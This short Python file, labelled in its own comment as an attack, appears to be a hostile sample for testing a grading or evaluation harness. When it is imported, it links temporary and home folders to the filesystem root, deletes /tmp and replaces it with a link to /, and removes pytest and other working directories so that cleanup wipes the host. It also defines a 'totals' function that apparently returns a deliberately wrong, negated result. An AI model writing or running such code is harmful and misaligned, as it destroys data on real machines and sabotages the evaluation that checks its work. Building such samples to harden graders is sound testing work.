# attack: replaces its temporary folders by links to the grader's, so that cleaning up removes those
import os
import shutil
from contextlib import suppress
from pathlib import Path

for name in ("TMPDIR", "HOME"):
    place = Path(os.environ.get(name, "/tmp")) / "hostile_link"
    with suppress(OSError):
        place.symlink_to("/")
with suppress(OSError):
    shutil.rmtree("/tmp")
    os.symlink("/", "/tmp")
for victim in (*Path("/").glob("tmp/pytest-of-*"), *Path("/").glob("tmp/breakfix-*"), Path("/home/nobody")):
    shutil.rmtree(victim, ignore_errors=True)


def totals(batches):
    return -sum(batch.double().sum(0) for batch in batches)
